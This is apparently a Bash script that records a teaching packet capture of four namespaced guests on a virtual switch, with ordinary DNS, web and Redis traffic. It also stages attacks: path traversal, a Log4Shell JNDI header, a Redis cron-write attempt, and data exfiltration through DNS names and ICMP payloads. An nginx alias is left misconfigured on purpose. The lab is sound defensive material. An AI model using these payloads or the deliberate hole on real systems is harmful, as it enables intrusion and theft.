#!/usr/bin/env bash
#
# Records guests.pcapng: four guests on one virtual switch, as a sensor on a mirror port sees them.
# The guests are network namespaces with real programs in them; README.md beside this file has the picture.
#
# Nothing of the machine's own network is touched. The lab lives in private network, mount, PID and
# UTS namespaces, so the kernel itself ends every process and removes every interface when the
# recording ends, however it ends.
set -euo pipefail

readonly LIMIT_SECONDS=55
readonly PACKAGES=(iproute2 iputils-ping ethtool util-linux procps hostname tshark nginx curl dnsmasq-base bind9-dnsutils redis-server redis-tools)
readonly PROGRAMS=(ip tc ss ping ethtool sysctl hostname unshare setpriv mount tshark dumpcap editcap nginx curl dnsmasq dig redis-server redis-cli)
# Names of the namespaces, and of the switch ports after "vnet-". The last part of every address follows from the name.
readonly GUESTS=(web-1 client-1 db-1 dns-1)
readonly SUFFIX=(10 20 30 53)
readonly SWITCH=switch0 MIRROR_PORT=mirror0 SENSOR=sensor SENSOR_INTERFACE=sens0
readonly DOMAIN=shop.test

usage() {
  cat <<'USAGE'
usage: record-guests.sh [--out FILE] [--install]

Records four guests on a virtual switch into a pcapng file. Takes about ten seconds and needs root.

  --out FILE   where the capture goes (default: guests.pcapng beside this script)
  --install    if a program is missing, first install the Debian packages with apt-get; starts none of their
               services, but the next boot does: nginx and redis-server
  --help       print this and leave
USAGE
}

fail() {
  echo "record-guests.sh: $*" >&2
  exit 1
}

# ---------------------------------------------------------------------------------------------------------------------
# The lab. Runs inside the private namespaces.
# ---------------------------------------------------------------------------------------------------------------------

in_guest() { ip netns exec "$@"; }

# A step of the scenario. Its program's own answer goes to the log: a refused connection is a result here, not a mistake.
step() {
  local guest=$1
  shift
  echo "+ $guest: $*" >>"$WORK/scenario.log"
  in_guest "$guest" "$@" >>"$WORK/scenario.log" 2>&1 </dev/null || echo "  exit status $?" >>"$WORK/scenario.log"
}

wait_until() {
  local what=$1 tries
  shift
  for ((tries = 0; tries < 100; tries++)); do
    if "$@" >/dev/null 2>&1; then return 0; fi
    sleep 0.05
  done
  fail "$what is not ready after 5 seconds"
}

listens() { [ -n "$(in_guest "$1" ss -H -ltn "sport = :$2")" ]; }

# Guests must resolve names by dns-1 and know no name of this machine.
isolate() {
  hostname lab
  ip link set lo up
  mount -t tmpfs tmpfs /run
  mkdir -p /run/netns
  printf 'nameserver 10.77.0.53\nsearch %s\noptions timeout:1 attempts:2\n' "$DOMAIN" >"$WORK/resolv.conf"
  printf '127.0.0.1 localhost\n::1 localhost\n' >"$WORK/hosts"
  printf 'hosts: files dns\n' >"$WORK/nsswitch.conf"
  local name target
  for name in resolv.conf hosts nsswitch.conf; do
    target=$(readlink -m "/etc/$name")
    # A link into /run dangles now; the folder made here is the lab's own tmpfs.
    if [[ $target == /run/* ]]; then
      mkdir -p "$(dirname "$target")"
      : >"$target"
    fi
    if [ -e "$target" ]; then mount --bind "$WORK/$name" "$target"; fi
  done
}

build_switch() {
  # No addresses of its own on the switch or on its ports: every frame that is seen comes from a guest.
  sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip link add "$SWITCH" address 02:00:00:00:ff:00 type bridge stp_state 0 mcast_snooping 0
  ip link set "$SWITCH" up

  ip netns add "$SENSOR"
  in_guest "$SENSOR" sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip link add "$MIRROR_PORT" address 02:00:00:00:ff:01 type veth \
    peer name "$SENSOR_INTERFACE" address 02:00:00:00:ff:02 netns "$SENSOR"
  ip link set "$MIRROR_PORT" up
  in_guest "$SENSOR" ip link set "$SENSOR_INTERFACE" up promisc on
}

# The switch port stays down until plug_in, so that the capture has the guest's first frame.
add_guest() {
  local guest=$1 suffix=$2 port=vnet-$1
  ip netns add "$guest"
  ip link add "$port" address "02:00:00:00:ff:$suffix" type veth \
    peer name eth0 address "02:00:00:00:00:$suffix" netns "$guest"
  # veth leaves checksums to the receiver and joins segments, neither of which happens on a wire.
  in_guest "$guest" ethtool -K eth0 tx off tso off gso off gro off >/dev/null
  ethtool -K "$port" tx off tso off gso off gro off >/dev/null
  ip link set "$port" master "$SWITCH"

  # A copy of all that enters the switch from this guest, and of nothing that leaves to it: with one
  # such mirror on each port the sensor gets each frame once. The mirror port is no member of the
  # bridge, or it would get flooded frames a second time.
  tc qdisc add dev "$port" clsact
  tc filter add dev "$port" ingress pref 10 protocol all u32 match u32 0 0 action mirred egress mirror dev "$MIRROR_PORT"
}

plug_in() {
  local guest=$1 suffix=$2
  ip link set "vnet-$guest" up
  in_guest "$guest" ip link set lo up
  in_guest "$guest" ip address add "10.77.0.$suffix/24" dev eth0
  in_guest "$guest" ip link set eth0 up
  in_guest "$guest" ip address add "fd77::$suffix/64" dev eth0 nodad
}

write_pages() {
  local www=$WORK/web/www number
  mkdir -p "$www/static" "$www/etc" "$www/reports"
  cat >"$www/index.html" <<'PAGE'
<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>Garden shop</title>
  <link rel="stylesheet" href="/static/shop.css">
  <script src="/static/shop.js" defer></script>
</head>
<body>
  <h1>Garden shop</h1>
  <p>Seeds, tools and pots. Orders before noon leave the same day.</p>
  <ul id="goods">
    <li>Watering can, 5 l</li>
    <li>Spade, ash handle</li>
    <li>Tomato seeds, 20 grains</li>
  </ul>
</body>
</html>
PAGE
  cat >"$www/static/shop.css" <<'PAGE'
body { font-family: sans-serif; margin: 2rem auto; max-width: 40rem; color: #233; }
h1 { border-bottom: 2px solid #483; }
#goods li { padding: .25rem 0; }
PAGE
  cat >"$www/static/shop.js" <<'PAGE'
"use strict";
for (const item of document.querySelectorAll("#goods li")) {
  item.addEventListener("click", () => fetch("/api/orders", { method: "POST", body: JSON.stringify({ item: item.textContent }) }));
}
PAGE
  # Not this machine's: a file made for the lab, which the traversal below reaches.
  cat >"$www/etc/passwd" <<'PAGE'
root:x:0:0:root:/root:/bin/bash
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
shop:x:1000:1000:the garden shop:/srv/shop:/bin/sh
PAGE
  for ((number = 1; number <= 2100; number++)); do
    printf '%05d;2025-03-%02d;customer-%03d;item-%02d;%d;%d.%02d\n' \
      "$number" $((number % 31 + 1)) $((number * 37 % 211)) $((number * 13 % 47)) \
      $((number % 4 + 1)) $((number * 7 % 90 + 3)) $((number * 11 % 100))
  done >"$www/reports/march.csv"
  # The files' dates are in the answers.
  find "$www" -exec touch -d '2025-04-01T06:00:00Z' {} +
}

start_web() {
  write_pages
  # "location /static" without its last slash beside an alias with one is a well-known mistake, which
  # lets /static../x leave the folder. It is made on purpose.
  cat >"$WORK/web/nginx.conf" <<CONF
daemon off;
user nobody nogroup;
worker_processes 1;
pid $WORK/web/nginx.pid;
error_log $WORK/web/error.log;
events { worker_connections 64; }
http {
  types { text/html html; text/css css; application/javascript js; text/csv csv; }
  default_type text/plain;
  access_log off;
  sendfile off;
  gzip on;
  gzip_types text/css application/javascript;
  gzip_min_length 200;
  client_body_temp_path $WORK/web/body;
  proxy_temp_path $WORK/web/proxy;
  fastcgi_temp_path $WORK/web/fastcgi;
  uwsgi_temp_path $WORK/web/uwsgi;
  scgi_temp_path $WORK/web/scgi;
  server {
    listen 80;
    listen [::]:80;
    server_name web-1.$DOMAIN;
    root $WORK/web/www;
    location = /healthz { return 200 "ok\n"; }
    location = /api/orders {
      default_type application/json;
      if (\$http_authorization = "") { return 401 '{"error":"credentials are missing"}\n'; }
      return 201 '{"order":4711,"state":"accepted"}\n';
    }
    location /etc { return 404; }
    location /static { alias $WORK/web/www/static/; }
  }
}
CONF
  in_guest web-1 nginx -c "$WORK/web/nginx.conf" -p "$WORK/web" -e "$WORK/web/error.log" >"$WORK/web/out.log" 2>&1 &
  wait_until "nginx on web-1" listens web-1 80
}

start_dns() {
  # Authoritative for the two zones; asked for anything else it answers "refused", since it has no upstream.
  in_guest dns-1 dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=nobody --pid-file= \
    --interface=eth0 --bind-interfaces --no-daemon --local-ttl=300 \
    --local=/$DOMAIN/ --local=/badsite.test/ --local=/77.10.in-addr.arpa/ \
    --host-record=web-1.$DOMAIN,10.77.0.10,fd77::10 \
    --host-record=client-1.$DOMAIN,10.77.0.20,fd77::20 \
    --host-record=db-1.$DOMAIN,10.77.0.30,fd77::30 \
    --host-record=dns-1.$DOMAIN,10.77.0.53,fd77::53 \
    --cname=www.$DOMAIN,web-1.$DOMAIN \
    --mx-host=$DOMAIN,web-1.$DOMAIN,10 \
    --srv-host=_redis._tcp.$DOMAIN,db-1.$DOMAIN,6379 \
    --txt-record="$DOMAIN,v=spf1 mx -all" \
    --txt-record="policy.$DOMAIN,$(printf 'a line of the shop policy %02d. ' {1..8}),$(printf 'one more line of it %02d. ' {1..10}),$(printf 'and the end %02d. ' {1..15})" \
    >"$WORK/dns.log" 2>&1 &
  wait_until "dnsmasq on dns-1" listens dns-1 53
}

start_db() {
  mkdir -p "$WORK/db"
  chown 65534:65534 "$WORK/db"
  # Open to its network without a password, as such servers are found. Redis 7 refuses to change
  # "dir" and "dbfilename" by the network, and nothing is saved: the attack below changes no file.
  in_guest db-1 setpriv --reuid=65534 --regid=65534 --clear-groups -- \
    redis-server --bind 0.0.0.0 :: --protected-mode no --port 6379 --save '' --appendonly no --daemonize no \
    --enable-protected-configs no --dir "$WORK/db" --logfile "$WORK/db/redis.log" >"$WORK/db/out.log" 2>&1 &
  wait_until "redis on db-1" listens db-1 6379
}

start_recorder() {
  : >"$WORK/dumpcap.log"
  # Not by in_guest: $! must be dumpcap itself, which "ip netns exec" becomes, and no shell around it.
  ip netns exec "$SENSOR" dumpcap -q -n -i "$SENSOR_INTERFACE" -s 262144 -B 16 -w "$WORK/recorded.pcapng" 2>"$WORK/dumpcap.log" &
  RECORDER=$!
  wait_until "dumpcap" grep -q '^File:' "$WORK/dumpcap.log"
}

# What the guests have sent, counted by their own interfaces.
frames_sent() {
  local guest sum=0
  for guest in "${GUESTS[@]}"; do
    sum=$((sum + $(in_guest "$guest" cat /sys/class/net/eth0/statistics/tx_packets)))
  done
  echo "$sum"
}

stop_recorder() {
  local sent_before sent_after seen
  sent_before=$(frames_sent)
  # The kernel hands a ring's last block over after a timeout.
  sleep 0.7
  kill -TERM "$RECORDER"
  wait "$RECORDER" || fail "dumpcap failed: $(tail -n 1 "$WORK/dumpcap.log")"
  grep -q 'dropped on interface.*: [0-9]*/0 ' "$WORK/dumpcap.log" || fail "frames were lost: $(tail -n 1 "$WORK/dumpcap.log")"
  sent_after=$(frames_sent)
  seen=$(sed -n 's,.*dropped on interface.*: \([0-9]*\)/0 .*,\1,p' "$WORK/dumpcap.log")
  ((sent_before <= seen && seen <= sent_after)) ||
    fail "the guests sent $sent_before to $sent_after frames, but the sensor has $seen"
}

readonly APP='garden-app/2.4' BROWSER='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'

ordinary_day() {
  local shop=http://web-1.$DOMAIN number

  # Names.
  step client-1 dig +tries=1 "www.$DOMAIN" A
  step client-1 dig +tries=1 "www.$DOMAIN" AAAA
  step client-1 dig +tries=1 -x 10.77.0.30
  step client-1 dig +tries=1 "_redis._tcp.$DOMAIN" SRV
  step client-1 dig +tries=1 "$DOMAIN" MX
  step client-1 dig +tries=1 @fd77::53 "db-1.$DOMAIN" AAAA
  step client-1 dig +tries=1 "printer-9.$DOMAIN" A
  # The answer does not fit into 512 bytes: dig asks again over TCP.
  step client-1 dig +tries=1 +noedns "policy.$DOMAIN" TXT

  # Is it there?
  step client-1 ping -n -q -c 3 -i 0.05 -s 56 10.77.0.10
  step client-1 ping -n -q -c 3 -i 0.05 -s 56 fd77::10
  step web-1 ping -n -q -c 1 -s 3000 10.77.0.30
  step web-1 ping -n -q -c 1 -s 3000 fd77::30

  # A visit to the shop: four files over one connection, then one over IPv6.
  step client-1 curl -sS -4 --compressed -A "$BROWSER" "$shop/" "$shop/static/shop.css" "$shop/static/shop.js" "$shop/favicon.ico"
  step client-1 curl -sS -6 -A "$BROWSER" "$shop/"
  step client-1 curl -sS -4 -A "$BROWSER" -o /dev/null "$shop/reports/march.csv"
  step client-1 curl -sS -4 -A "$BROWSER" -H 'Authorization: Bearer shop-4f1c' -H 'Content-Type: application/json' \
    -d '{"item":"Spade, ash handle","count":1}' "$shop/api/orders"
  step client-1 curl -sS -4 -A "$BROWSER" -H 'Content-Type: application/json' \
    -d '{"item":"Watering can, 5 l","count":2}' "$shop/api/orders"

  # What watches the shop, and an administrator at the command line.
  step db-1 curl -sS "http://10.77.0.10/healthz"
  step client-1 curl -sS -4 -I "$shop/"

  # The shop and its database.
  for number in 1 2 3 4; do
    step web-1 redis-cli -h 10.77.0.30 SET "cart:000$number" "item-$((number * 13)) x $number" EX 3600
  done
  step web-1 redis-cli -h 10.77.0.30 -r 20 INCR visits
  step web-1 redis-cli -h "db-1.$DOMAIN" HSET item:13 name 'Spade, ash handle' price 34.90
  step web-1 redis-cli -h "db-1.$DOMAIN" HGETALL item:13
  step web-1 redis-cli -h fd77::30 GET visits

  # Nobody listens there: a reset, and an ICMP error in each family.
  step client-1 curl -sS --connect-timeout 2 "http://db-1.$DOMAIN:8080/"
  step client-1 dig +tries=1 +time=1 @10.77.0.30 "web-1.$DOMAIN" A
  step client-1 dig +tries=1 +time=1 @fd77::30 "web-1.$DOMAIN" A
}

# client-1 has been taken over and looks around. Requests only: each is refused or reaches what the lab made for it.
from_guest_to_guest() {
  local shop=http://web-1.$DOMAIN
  step client-1 dig +tries=1 stage2.badsite.test A
  step client-1 dig +tries=1 6b65793d3464.stage2.badsite.test TXT
  step client-1 curl -sS -4 -A "$APP" --path-as-is "$shop/cgi-bin/../../../../etc/passwd"
  step client-1 curl -sS -4 -A "$APP" --path-as-is "$shop/static../etc/passwd"
  # shellcheck disable=SC2016 # the text itself is sent
  step client-1 curl -sS -4 -A "$APP" -H 'X-Api-Version: ${jndi:ldap://10.77.0.20:1389/a}' "$shop/"
  step client-1 curl -sS -6 -A "$APP" "$shop/.git/config"
  step client-1 redis-cli -h 10.77.0.30 CONFIG SET dir /var/spool/cron
  step client-1 redis-cli -h 10.77.0.30 CONFIG GET maxmemory
  step client-1 redis-cli -h fd77::30 SET note 'key AKIAIOSFODNN7EXAMPLE'
  # "secret=shop-4f1c" in the payload of echo requests, a slow but usual way out.
  step client-1 ping -n -q -c 2 -i 0.05 -s 64 -p 7365637265743d73686f702d34663163 10.77.0.53
}

lab() {
  WORK=$1
  trap 'exit 130' INT TERM
  local index
  isolate
  build_switch
  for index in "${!GUESTS[@]}"; do add_guest "${GUESTS[index]}" "${SUFFIX[index]}"; done
  start_recorder
  for index in "${!GUESTS[@]}"; do plug_in "${GUESTS[index]}" "${SUFFIX[index]}"; done
  start_dns
  start_web
  start_db
  ordinary_day
  from_guest_to_guest
  stop_recorder
}

# ---------------------------------------------------------------------------------------------------------------------
# The file. Runs outside again, on what the lab left in the work folder.
# ---------------------------------------------------------------------------------------------------------------------

# What an analyst would write beside a frame: a display filter, and the comment for the first frame that it finds.
readonly COMMENTS=(
  'icmpv6.type == 143|a guest joins its multicast groups as its link comes up'
  'arp.opcode == 1|the first question on the new segment: who has this address?'
  'dns.flags.truncated == 1|the answer does not fit: the client asks again over TCP'
  'dns.flags.rcode == 3|no such name'
  'ip.flags.mf == 1|an echo request of 3000 bytes, cut into three fragments'
  'ipv6.fraghdr.more == 1|the same in IPv6'
  'http.response.code == 404|no such page'
  'tcp.flags.reset == 1 && tcp.srcport == 8080|connection refused'
  'icmp.type == 3|port unreachable, with the datagram that caused it'
  'http.request.uri contains "/../../"|path traversal, refused by the server'
  'http.request.uri contains "/static../"|path traversal through a misconfigured alias, answered'
  'http.request.line contains "jndi"|the Log4Shell string in a request header'
  'http.request.uri contains "/.git/"|a look for a forgotten Git folder, over IPv6'
  'tcp.payload contains "/var/spool/cron"|an attempt to make Redis write a cron file, refused'
  'icmp.type == 8 && data.data contains "secret="|data carried in echo requests'
)

# The numbers of the frames that a display filter finds, one a line.
find_frames() {
  tshark -n -r "$1" -o ip.check_checksum:TRUE -o tcp.check_checksum:TRUE -o udp.check_checksum:TRUE \
    -Y "$2" -T fields -e frame.number 2>"$WORK/tshark.log" || fail "tshark failed: $(tail -n 1 "$WORK/tshark.log")"
}

annotate() {
  local entry filter frames arguments=()
  for entry in "${COMMENTS[@]}"; do
    filter=${entry%%|*}
    frames=$(find_frames "$WORK/recorded.pcapng" "$filter")
    [ -n "$frames" ] || fail "the recording has no frame with '$filter'"
    arguments+=(-a "${frames%%$'\n'*}:${entry#*|}")
  done
  editcap -F pcapng "${arguments[@]}" "$WORK/recorded.pcapng" "$WORK/annotated.pcapng"
}

# Little-endian numbers and one pcapng option (type, text) padded to 32 bits.
u16() { printf '%b' "$(printf '\\x%02x\\x%02x' $(($1 & 255)) $(($1 >> 8 & 255)))"; }
u32() { u16 $(($1 & 65535)) && u16 $(($1 >> 16 & 65535)); }
option() {
  local length=${#2}
  u16 "$1" && u16 "$length" && printf '%s' "$2" && head -c $(((4 - length % 4) % 4)) /dev/zero
}
end_of_options() { u32 0; }
block() { # type, file with the body
  local total=$(($(stat -c %s "$2") + 12))
  u32 "$1" && u32 "$total" && cat "$2" && u32 "$total"
}

# dumpcap names the machine's processor and kernel in the first two blocks of the file. They are
# replaced by blocks that say what the lab is.
replace_headers() {
  local in=$WORK/annotated.pcapng first second
  word() { od -An -tu4 -j "$1" -N 4 "$in" | tr -d ' '; }
  [ "$(word 0) $(word 8)" = "$((0x0a0d0d0a)) $((0x1a2b3c4d))" ] || fail "editcap wrote no little-endian pcapng file"
  first=$(word 4)
  [ "$(word "$first")" = 1 ] || fail "the second block of the capture describes no interface"
  second=$(word $((first + 4)))
  {
    u32 $((0x1a2b3c4d)) && u16 1 && u16 0
    u32 $((0xffffffff)) && u32 $((0xffffffff)) # length of the section: not given
    option 1 'Four guests on one virtual switch, recorded by record-guests.sh'
    option 4 'dumpcap, editcap'
    end_of_options
  } >"$WORK/section"
  {
    u16 1 && u16 0 && u32 262144 # Ethernet, snapshot length
    option 2 "$SENSOR_INTERFACE"
    option 3 'mirror port: all that enters the switch from its guests'
    option 9 $'\x09' # time stamps in nanoseconds
    end_of_options
  } >"$WORK/interface"
  {
    block $((0x0a0d0d0a)) "$WORK/section"
    block 1 "$WORK/interface"
    tail -c +$((first + second + 1)) "$in"
  } >"$WORK/guests.pcapng"
}

# Fails if a display filter finds a frame.
refuse() { # what is wrong, filter
  local found
  found=$(find_frames "$WORK/guests.pcapng" "$2")
  [ -z "$found" ] || fail "frames that $1: ${found//$'\n'/ }; record once more"
}

check() {
  local frames
  # About one recording in forty was refused for one bad checksum whose cause is not known; then record again.
  refuse 'have a bad checksum' 'ip.checksum.status == "Bad" || tcp.checksum.status == "Bad" || udp.checksum.status == "Bad" || icmp.checksum.status == "Bad" || icmpv6.checksum.status == "Bad"'
  refuse 'are cut' 'frame.cap_len < frame.len'
  refuse 'were sent twice or follow a loss' 'tcp.analysis.retransmission || tcp.analysis.lost_segment || tcp.analysis.duplicate_ack'
  frames=$(find_frames "$WORK/guests.pcapng" frame | wc -l)
  echo "$frames frames, $(stat -c %s "$WORK/guests.pcapng") bytes, all checksums right"
}

WORK='' POLICY=''
clean_up() {
  if [ -n "$WORK" ]; then rm -rf "$WORK"; fi
  if [ -n "$POLICY" ]; then rm -f "$POLICY"; fi
}

install_missing() {
  command -v apt-get >/dev/null || fail "--install needs apt-get"
  if [ ! -e /usr/sbin/policy-rc.d ]; then
    # Debian's packages ask this file whether they may start their service.
    POLICY=/usr/sbin/policy-rc.d
    printf '#!/bin/sh\nexit 101\n' >"$POLICY"
    chmod 755 "$POLICY"
  fi
  { apt-get update -q && DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends "${PACKAGES[@]}"; } >&2 ||
    fail "apt-get could not install ${PACKAGES[*]}"
}

missing() {
  local program
  for program in "${PROGRAMS[@]}"; do
    command -v "$program" >/dev/null || echo "$program"
  done
}

main() {
  local out install=no status=0
  out=$(dirname "$(realpath "${BASH_SOURCE[0]}")")/guests.pcapng
  while [ $# -gt 0 ]; do
    case $1 in
      --out)
        [ $# -ge 2 ] || fail "--out needs the name of a file"
        out=$2
        shift 2
        ;;
      --install) install=yes && shift ;;
      --help | -h) usage && exit 0 ;;
      *)
        usage >&2
        fail "unknown argument '$1'"
        ;;
    esac
  done
  [ "$(uname -s)" = Linux ] || fail "network namespaces need Linux"
  [ "$(id -u)" = 0 ] || fail "must be run as root: it makes network namespaces"
  PATH=$PATH:/usr/sbin:/sbin
  export LC_ALL=C PATH
  [ -d "$(dirname "$out")" ] || fail "there is no folder $(dirname "$out")"
  trap clean_up EXIT
  trap 'exit 130' INT TERM
  if [ "$install" = yes ] && [ -n "$(missing)" ]; then install_missing; fi
  [ -z "$(missing)" ] || fail "not installed: $(missing | tr '\n' ' ')- run with --install, or: apt-get install ${PACKAGES[*]}"

  WORK=$(mktemp -d /tmp/record-guests.XXXXXX)
  chmod 755 "$WORK"
  # unshare passes no signal on, but with it gone the kernel ends all that it started.
  timeout --foreground --signal=KILL "$LIMIT_SECONDS" \
    unshare --net --mount --uts --ipc --pid --fork --kill-child --mount-proc --propagation private -- \
    bash "$(realpath "${BASH_SOURCE[0]}")" --in-the-lab "$WORK" || status=$?
  [ "$status" != 137 ] || fail "the recording took longer than $LIMIT_SECONDS seconds"
  [ "$status" = 0 ] || fail "the recording failed with status $status"
  annotate
  replace_headers
  check
  cp "$WORK/guests.pcapng" "$out"
  echo "written to $out"
}

if [ "${1:-}" = --in-the-lab ]; then
  lab "$2"
else
  main "$@"
fi
